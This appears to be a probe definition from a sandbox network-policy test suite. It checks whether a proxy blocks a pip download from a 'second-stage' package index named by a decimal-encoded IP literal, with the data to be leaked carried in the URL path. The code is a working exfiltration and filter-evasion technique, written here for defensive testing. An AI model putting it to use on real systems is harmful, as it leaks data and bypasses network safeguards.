from ._net import ALLOW

ID = "supply.index-ip"
CATEGORY = "supply-chain"
DESCRIPTION = ("pip install --index-url http://<the sink's address in decimal>/simple/<data>/ through "
               "the proxy: a second-stage index named by an IP literal")
CLAIMS = ("rule:network.mode",)
POLICY = {**ALLOW, "limits": {"timeout": "60s"}}
CODE = """
import subprocess
a, b, c, d = (int(x) for x in SINK_HOST.split("."))
host = os.environ.get("PROBE_INDEX_HOST") or str(a << 24 | b << 16 | c << 8 | d)
p = subprocess.run([sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--no-cache-dir",
                    "--disable-pip-version-check", "--retries", "0", "--timeout", "5",
                    "-d", os.path.join(SCRATCH, "dl"), "--index-url",
                    f"http://{host}:{SINK_PORT}/simple/{DATA}/", "--trusted-host", host,
                    "probe-second-stage"], capture_output=True, text=True)
last = ([x.strip() for x in p.stderr.splitlines() if x.strip()] or ["no message"])[-1]
out("DENIED", f"pip exit {p.returncode} ({last[:140]}); the sink decides")
"""
CONTROL = {"policy": {"network": {"allow": ["{SINK_HOST}:{SINK_PORT}"]}}}
CONTAINED = "the proxy refuses the IP-literal index: the sink never sees the request (nor the data in its path)"
